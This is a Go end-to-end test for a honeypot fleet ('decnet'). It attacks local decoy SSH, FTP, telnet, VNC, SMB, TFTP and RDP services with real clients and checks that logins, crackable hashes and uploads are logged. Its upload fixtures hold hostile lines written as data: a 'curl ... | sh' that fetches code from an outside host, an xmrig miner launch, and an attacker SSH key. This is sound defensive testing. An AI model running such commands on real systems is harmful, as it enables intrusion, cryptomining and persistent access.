package main

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"decnet/internal/ntlmssp"
	"decnet/internal/store"
	"decnet/internal/testutil"
)

const remoteFleet = `# the remote-access honeypots, for the end-to-end test through the store
[remote]
services = ssh, ftp, telnet, vnc, smb, tftp, rdp
[remote.ssh]
password = Sh3ll-sh0ck
[remote.ftp]
users = alice:wonderland
[remote.telnet]
password = Winter2026!
[remote.smb]
product = windows
[remote.rdp]
product = windows
[jumphost]
services = rdp
`

// udpBinding finds where a UDP port of a decky's service listens in the
// fleet table ("tftp 69/udp" or "tftp 69/udp -> 10069").
var udpBinding = regexp.MustCompile(`(\w+) (\d+)/udp(?: -> (\d+))?`)

// TestRemoteAccessThroughStore attacks the remote-access honeypots of a
// `decnet up` fleet with real clients and checks what reaches the store:
// the events with the attacker's address, the credentials (clear or
// crackable) as bounties, and the uploaded bytes.
func TestRemoteAccessThroughStore(t *testing.T) {
	tools := map[string]string{}
	for _, name := range []string{"ssh", "sshpass", "scp", "sftp", "curl", "lftp", "expect", "telnet",
		"vncsnapshot", "vncpasswd", "smbclient", "tftp", "xfreerdp"} {
		tools[name] = testutil.RequireTool(t, name)
	}
	impacket := testutil.RequireImpacket(t)

	const base = "127.77.204.10"
	n, src, dir := attackedFleet(t, remoteFleet, base, "127.77.204.0/24")
	tftpPort := ""
	for _, m := range udpBinding.FindAllStringSubmatch(n.output(), -1) {
		if m[1] == "tftp" {
			tftpPort = m[2]
			if m[3] != "" {
				tftpPort = m[3]
			}
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	attack := func(name string, args ...string) string {
		t.Helper()
		cmd := exec.CommandContext(ctx, tools[name], args...)
		cmd.Dir = dir
		// Clients keep known hosts and settings under $HOME.
		cmd.Env = append(os.Environ(), "HOME="+dir)
		if name == "xfreerdp" {
			cmd.Env = append(cmd.Env, "DISPLAY="+testutil.XDisplay(t))
		}
		out, _ := cmd.CombinedOutput() // failed logins exit non-zero
		return string(out)
	}
	file := func(name, content string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	sum := func(path string) string {
		b, _ := os.ReadFile(path)
		h := sha256.Sum256(b)
		return hex.EncodeToString(h[:])
	}

	// ssh: an interactive session, then uploads by scp (sftp mode and the
	// legacy protocol) and by sftp.
	sshPort := n.port("remote", "ssh")
	sshOpts := []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
		"-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password"}
	attack("expect", "-c", fmt.Sprintf(`set timeout 20; spawn %s %s -p %s root@%s; expect "assword: "; send "Sh3ll-sh0ck\r";
		expect "# "; send "id\r"; expect "# "; send "exit\r"; expect eof`, tools["ssh"], strings.Join(sshOpts, " "), sshPort, base))
	scpNew := file("miner.sh", "#!/bin/sh\nnohup ./xmrig -o pool.example:3333 &\n")
	scpOld := file("bot.x86", "\x7fELF legacy scp upload")
	sftpUp := file("authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE0 attacker@box\n")
	scpArgs := append([]string{"-p", "Sh3ll-sh0ck", "scp", "-P", sshPort}, sshOpts...)
	attack("sshpass", append(scpArgs, scpNew, "root@"+base+":/tmp/miner.sh")...)
	attack("sshpass", append(append(scpArgs, "-O"), scpOld, "root@"+base+":/tmp/bot.x86")...)
	batch := file("sftp.batch", "put "+sftpUp+" /root/authorized_keys\n")
	attack("sshpass", append(append([]string{"-p", "Sh3ll-sh0ck", "sftp", "-P", sshPort, "-o", "BatchMode=no", "-b", batch}, sshOpts...), "root@"+base)...)

	// ftp: curl logs in and uploads; lftp logs in, lists and uploads.
	ftpURL := fmt.Sprintf("ftp://%s:%s/", base, n.port("remote", "ftp"))
	curlUp := file("payload.sh", "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n")
	attack("curl", "-s", "-u", "alice:wonderland", "-T", curlUp, ftpURL)
	lftpUp := file("kit.tar.gz", "lftp upload of a rootkit")
	attack("lftp", "-u", "alice,wonderland", "-p", n.port("remote", "ftp"), "-e",
		"set ftp:passive-mode on; set net:max-retries 1; ls; put "+lftpUp+" -o kit.tar.gz; bye", base)
	// telnet: a failed login, then the persona's password and a command.
	attack("expect", "-c", fmt.Sprintf(`set timeout 20; spawn %s %s %s; expect "login: "; send "root\r"; expect "assword: "; send "guess\r";
		expect "login: "; send "root\r"; expect "assword: "; send "Winter2026!\r"; expect "# "; send "uname -a\r"; expect "# "; send "exit\r"; expect eof`,
		tools["telnet"], base, n.port("remote", "telnet")))
	// vnc: a password file with a wrong password.
	pwfile := filepath.Join(dir, "vncpw")
	pw := exec.Command(tools["vncpasswd"], "-f")
	pw.Stdin = strings.NewReader("hunter22\n")
	if b, err := pw.Output(); err != nil || os.WriteFile(pwfile, b, 0o600) != nil {
		t.Fatalf("vncpasswd: %v", err)
	}
	attack("vncsnapshot", "-passwd", pwfile, fmt.Sprintf("%s::%s", base, n.port("remote", "vnc")), filepath.Join(dir, "shot.jpg"))
	// smb: smbclient lists the shares with a password; impacket's
	// smbclient.py (which opens with SMB1) logs in as another user.
	attack("smbclient", "-L", "//"+base, "-p", n.port("remote", "smb"), "-U", "alice%secret")
	impacketOut, _ := exec.CommandContext(ctx, impacket, testutil.ImpacketExamples+"smbclient.py", "-port", n.port("remote", "smb"), "bob:hunter2@"+base).CombinedOutput()
	if !strings.Contains(string(impacketOut), "STATUS_LOGON_FAILURE") {
		t.Errorf("impacket smbclient.py was not told STATUS_LOGON_FAILURE:\n%s", impacketOut)
	}
	// tftp: a bait file fetched, then an upload.
	implant := file("implant.bin", "\x7fELF fake implant")
	attack("tftp", base, tftpPort, "-m", "binary", "-c", "get", "pxelinux.cfg/default", filepath.Join(dir, "pxe-default"))
	attack("tftp", base, tftpPort, "-m", "binary", "-c", "put", implant, "implant.bin")
	// rdp: xfreerdp's NLA logon against the Windows persona, and its TLS
	// logon (the password inside the Client Info PDU) against xrdp.
	attack("xfreerdp", "/v:"+base+":"+n.port("remote", "rdp"), "/cert:ignore", "/auth-only", "/u:carol", "/p:Passw0rd!", "/d:CORP")
	attack("xfreerdp", "/v:127.77.204.11:"+n.port("jumphost", "rdp"), "/cert:ignore", "/auth-only", "/u:dave", "/p:xrdp pass 1", "/d:LAB")

	if b, err := os.ReadFile(filepath.Join(dir, "pxe-default")); err != nil || !strings.Contains(string(b), "pxelinux") && !strings.Contains(string(b), "LABEL") {
		t.Errorf("tftp get of the PXE bait: %v %q", err, b)
	}

	token := n.token()
	from := func(l store.Log) bool { return l.AttackerIP == src && l.Decky == "remote" }
	captured := func(path string) func(store.Log) bool {
		return func(l store.Log) bool { return l.Fields["sha256"] == sum(path) }
	}
	// A captured NetNTLMv2 must carry all a cracker needs: the stored line
	// alone gives back exactly the password used.
	cracks := func(user, password string) func(store.Log) bool {
		return func(l store.Log) bool {
			ok, err := ntlmssp.CracksV2(l.Fields["hash"], password)
			return l.Fields["username"] == user && err == nil && ok
		}
	}
	for _, c := range []struct {
		what, search string
		match        func(store.Log) bool
	}{
		{"ssh interactive command", "service:ssh event:command", func(l store.Log) bool { return l.Fields["command"] == "id" }},
		{"scp upload", "service:ssh event:file_captured", captured(scpNew)},
		{"legacy scp upload", "service:ssh event:file_captured", captured(scpOld)},
		{"sftp upload", "service:ssh event:file_captured", captured(sftpUp)},
		{"curl ftp upload", "service:ftp event:file_captured", captured(curlUp)},
		{"lftp upload", "service:ftp event:file_captured", captured(lftpUp)},
		{"lftp listing", "service:ftp event:command", func(l store.Log) bool { return l.Fields["cmd"] == "LIST" }},
		{"telnet failed login", "service:telnet event:auth", func(l store.Log) bool {
			return l.Fields["password"] == "guess" && l.Fields["success"] == "false"
		}},
		{"telnet command", "service:telnet event:command", func(l store.Log) bool { return l.Fields["command"] == "uname -a" }},
		{"vnc challenge and response", "service:vnc event:auth", func(l store.Log) bool {
			return strings.HasPrefix(l.Fields["hash"], "$vnc$*") && l.Fields["success"] == "false"
		}},
		{"smbclient NetNTLMv2", "service:smb event:auth", cracks("alice", "secret")},
		{"impacket NetNTLMv2", "service:smb event:auth", cracks("bob", "hunter2")},
		{"tftp bait read", "service:tftp event:request", func(l store.Log) bool {
			return l.Fields["method"] == "RRQ" && l.Fields["filename"] == "pxelinux.cfg/default" && l.Fields["size"] != ""
		}},
		{"tftp upload", "service:tftp event:file_captured", captured(implant)},
		{"rdp NetNTLMv2", "service:rdp event:auth", cracks("carol", "Passw0rd!")},
	} {
		if findLog(n.logs(token, c.search), func(l store.Log) bool { return from(l) && c.match(l) }) == nil {
			t.Errorf("%s: no matching %q log from %s", c.what, c.search, src)
		}
	}

	for _, want := range []struct {
		service string
		payload map[string]string
	}{
		{"ssh", map[string]string{"username": "root", "password": "Sh3ll-sh0ck"}},
		{"ftp", map[string]string{"username": "alice", "password": "wonderland"}},
		{"telnet", map[string]string{"username": "root", "password": "Winter2026!"}},
		{"vnc", map[string]string{"hash_format": "vnc (john)"}},
		{"smb", map[string]string{"username": "alice", "hash_format": "netntlmv2 (hashcat 5600)"}},
		{"smb", map[string]string{"username": "bob", "hash_format": "netntlmv2 (hashcat 5600)"}},
		{"rdp", map[string]string{"username": "carol", "hash_format": "netntlmv2 (hashcat 5600)"}},
		{"rdp", map[string]string{"username": "dave", "password": "xrdp pass 1", "method": "client_info", "domain": "LAB"}},
	} {
		if !n.bounty(token, want.service, src, payload(want.payload)) {
			t.Errorf("no %s credential bounty %v from %s", want.service, want.payload, src)
		}
	}
	n.stop()
}
